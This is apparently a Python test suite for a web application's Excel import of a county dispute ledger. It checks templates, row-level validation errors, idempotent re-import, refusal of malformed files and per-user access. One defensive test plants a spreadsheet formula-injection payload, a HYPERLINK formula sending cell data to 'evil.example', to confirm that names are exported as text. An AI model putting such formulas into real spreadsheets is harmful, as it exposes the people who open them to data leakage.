"""The Excel import mechanism, through the dispute ledger's import: template, all-or-nothing,
errors by row and column, idempotency, and bad files."""

from __future__ import annotations

import io
import secrets
import zipfile
from datetime import timedelta
from typing import Any

import openpyxl
from sqlalchemy import func, select

from app.core.imports import ImportJob
from app.ledgers.importing import LEDGER_IMPORT
from app.ledgers.models import LedgerEntry
from tests.conftest import make_app
from tests.ledgers.support import make_user, upload, wait_for_job, workbook
from tests.support import DEMO_PASSWORD, county_today, login, page_text, valid_id_number

URL = "/ledgers/import"
KEYS = [c.key for c in LEDGER_IMPORT.columns]


def row(**values: Any) -> list[Any]:
    base = {
        "township": "城关镇", "village": "红旗村", "dispute_type": "邻里纠纷", "title": "张三与李四排水沟纠纷",
        "parties": "张三、李四", "level": 2, "found_on": county_today() - timedelta(days=10),
    }
    base.update(values)
    return [base.get(key) for key in KEYS]


def entries(db_session) -> int:
    db_session.rollback()
    return db_session.execute(select(func.count()).select_from(LedgerEntry)).scalar()


def run(client, data: bytes) -> tuple[dict[str, Any], str]:
    response = upload(client, URL, data)
    assert response.status_code == 302, page_text(response)
    job_url = response.headers["Location"]
    return wait_for_job(client, job_url), job_url


def test_template_has_the_chinese_headers_and_instructions(clerk_client):
    response = clerk_client.get(f"{URL}/template")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    headers = [c.value for c in book.worksheets[0][1]]
    assert headers[:6] == ["乡镇（街道）", "村（社区）", "自然屯（网格）", "具体地点", "纠纷类型", "矛盾纠纷"]
    assert "清单级别" in headers and "发现日期" in headers
    assert book.sheetnames[:2] == ["矛盾纠纷台账", "填写说明"]


def test_valid_file_imports_every_row_and_reimport_adds_nothing(clerk_client, db_session):
    before = entries(db_session)
    data = workbook(clerk_client, URL, [
        row(),
        row(title="王五家庭赡养纠纷", dispute_type="婚姻家庭", parties="王五", hamlet="红旗一屯",
            id_numbers=valid_id_number("19580101", "011"), phones="13800001234", level="一级",
            resolved_on=county_today() - timedelta(days=3), found_on="2026-01-05"),
        row(village="团结村", title="团结村土地流转租金纠纷", dispute_type="合同债务", parties="赵六", people_count=12,
            responsible_unit="县农业农村局", level=3, progress="镇农经站已介入"),
    ])
    state, job_url = run(clerk_client, data)
    assert state["status"] == "done", page_text(clerk_client.get(job_url))
    assert (state["imported"], state["skipped"], state["total"]) == (3, 0, 3)
    assert entries(db_session) == before + 3
    imported = db_session.execute(select(LedgerEntry).order_by(LedgerEntry.id.desc()).limit(3)).scalars().all()
    third, second, first = imported
    assert [p.name for p in first.parties] == ["张三", "李四"] and first.parties_summary == "张三、李四"
    assert (second.level, second.status, second.hamlet.name) == ("1", "resolved", "红旗一屯")
    assert second.parties[0].id_number == valid_id_number("19580101", "011")
    assert (third.level, third.people_count, third.responsible_unit.name) == ("3", 12, "县农业农村局")
    assert third.notes[0].text == "镇农经站已介入"
    assert all(e.level_changes[0].reason == "从Excel导入" for e in imported)
    assert "已导入" in page_text(clerk_client.get(job_url))

    state, _ = run(clerk_client, data)
    assert (state["status"], state["imported"], state["skipped"]) == ("done", 0, 3)
    assert entries(db_session) == before + 3
    # Bulk-written records are in the audit log as one entry per import.
    from app.audit.models import AuditEntry

    logged = db_session.execute(select(AuditEntry).where(
        AuditEntry.kind == "create", AuditEntry.model == "ledger_entry", AuditEntry.summary.like("%Excel%")
    ).order_by(AuditEntry.id)).scalars().all()
    assert [e.username for e in logged] == ["clerk", "clerk"]
    assert "3 条" in logged[0].summary and "0 条" in logged[1].summary


def test_one_bad_row_and_nothing_is_imported_with_errors_by_row_and_column(clerk_client, db_session):
    before = entries(db_session)
    data = workbook(clerk_client, URL, [
        row(title="这一行本身没有问题"),
        row(township="不存在镇"),
        row(found_on=county_today() + timedelta(days=5), level=4),
        row(responsible_unit="县不存在局", village="沿河村"),
        row(parties="", level="1"),
    ])
    state, job_url = run(clerk_client, data)
    assert state["status"] == "failed"
    assert entries(db_session) == before
    with clerk_client.application.app_context():
        from app.extensions import db

        job = db.session.get(ImportJob, int(job_url.rsplit("/", 1)[1]))
        errors = {(e["row"], e["header"]): e["message"] for e in job.error_list}
        assert job.payload is None  # the upload is not kept
    assert "不存在镇" in errors[(3, "乡镇（街道）")]
    assert "晚于今天" in errors[(4, "发现日期")]
    assert "清单级别只能填 1、2 或 3" in errors[(4, "清单级别")]
    assert "县不存在局" in errors[(5, "责任单位")]
    assert "沿河村" in errors[(5, "村（社区）")]
    assert errors[(6, "当事人")] == "此项为必填项"
    assert not any(r == 2 for r, _ in errors)
    page = page_text(clerk_client.get(job_url))
    assert "未导入" in page and "不存在镇" in page
    download = clerk_client.get(f"{job_url}/errors.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(download.data)).worksheets[0]
    assert sheet.max_row == len(errors) + 1


def test_rows_outside_the_importers_area_are_refused(clerk2_client, db_session):
    before = entries(db_session)
    state, job_url = run(clerk2_client, workbook(clerk2_client, URL, [row(), row(township="河东镇", village="沿河村")]))
    assert state["status"] == "failed" and state["errors"] == 1
    assert "无权" in page_text(clerk2_client.get(job_url))
    assert entries(db_session) == before


def test_bad_files_are_refused_before_anything_is_read(clerk_client, db_session):
    def zipped(names: list[str]) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name in names:
                archive.writestr(name, "x")
        return out.getvalue()

    cases = {
        "not a spreadsheet": (b"name,township\n", "不是 Excel"),
        "a zip but not a workbook": (zipped(["readme.txt"]), "不是 Excel"),
        "damaged workbook": (zipped(["[Content_Types].xml", "xl/workbook.xml"]), "损坏"),
        "another template": (workbook(clerk_client, "/cases/import", []), "模板"),
        "empty": (b"", "空"),
    }
    db_session.rollback()
    jobs = db_session.execute(select(func.count()).select_from(ImportJob)).scalar()
    for label, (data, expected) in cases.items():
        response = upload(clerk_client, URL, data)
        assert response.status_code == 200, label
        assert expected in page_text(response), (label, page_text(response)[:300])
    db_session.rollback()
    assert db_session.execute(select(func.count()).select_from(ImportJob)).scalar() == jobs


def test_oversized_upload_is_refused_with_the_limit(database_uri):
    app = make_app(database_uri, MAX_CONTENT_LENGTH=20 * 1024)
    client = app.test_client()
    login(client, "clerk", DEMO_PASSWORD)
    data = workbook(client, URL, [row(description=secrets.token_hex(5000)) for _ in range(6)])
    assert len(data) > 20 * 1024
    response = upload(client, URL, data)
    assert response.status_code == 200
    assert "文件超过 0.02 MB 上限" in page_text(response)


def test_a_job_is_only_shown_to_who_uploaded_it(app, clerk_client, clerk2_client, client_as, db_session):
    _state, job_url = run(clerk_client, workbook(clerk_client, URL, [row(title="只给上传人看")]))
    make_user(app, "clerk_b", "登记员", "城关镇")
    colleague = client_as("clerk_b")
    for client in (clerk2_client, colleague):
        assert client.get(job_url).status_code == 404
        assert client.get(f"{job_url}/status").status_code == 404
        assert client.get(f"{job_url}/errors.xlsx").status_code == 404
    # Leaders read the ledger but do not import.
    assert client_as("leader").get(URL + "/").status_code == 403


def test_template_options_are_written_as_text_never_as_formulas(clerk_client, db_session):
    """A name someone typed (here a unit's) that starts like a formula is text in the template's
    options sheet, as in every export: opened in Excel it runs nothing."""
    from app.org.models import OrgUnit

    # Two long names (under 100 characters each): the reported units' list no longer fits
    # inline in the drop-down, so it goes to the options sheet.
    evil = ('=HYPERLINK("http://evil.example/"&A1,"点此查看")' + "局" * 48, "-2+3" + "局" * 90)
    for old_name, new_name in zip(("县自然资源局", "县教育局"), evil, strict=True):
        db_session.execute(select(OrgUnit).where(OrgUnit.name == old_name)).scalar_one().name = new_name
    db_session.commit()
    book = openpyxl.load_workbook(io.BytesIO(clerk_client.get("/cases/import/template").data))
    assert "选项" in book.sheetnames
    cells = [cell for row in book["选项"].iter_rows() for cell in row if cell.value in evil]
    assert len(cells) == 2 and all(cell.data_type == "s" for cell in cells)
